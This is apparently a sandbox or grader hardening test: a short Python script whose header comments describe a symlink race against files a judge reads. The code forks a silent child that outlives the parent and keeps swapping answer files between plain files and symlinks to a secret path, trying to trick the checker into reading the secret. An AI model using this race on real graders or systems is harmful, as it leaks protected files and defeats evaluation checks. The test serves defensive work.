# Tries: to be looked at as a file and read as a link: a child swaps the two without pause, while the program
#   ends and after.
# Seen: refused, or its own bytes.
# Against: answers; judged: marker foreign alive; control: naive; limits: cpu_s=2 wall_s=3; flagged: yes
import json
import os
import time

bait = json.load(open("bait.json"))
for number in range(8):
    open(f"plain{number}", "w").write("mine\n")
    os.symlink(bait["secret"], f"link{number}")
if os.fork() == 0:
    os.close(1)
    os.close(2)
    end = time.monotonic() + 2
    while time.monotonic() < end:
        for number in range(8):
            os.link(f"plain{number}", "new")
            os.replace("new", f"answer{number}.txt")
            os.symlink(bait["secret"], "new")
            os.replace("new", f"answer{number}.txt")
    os._exit(0)
time.sleep(0.3)
os._exit(0)
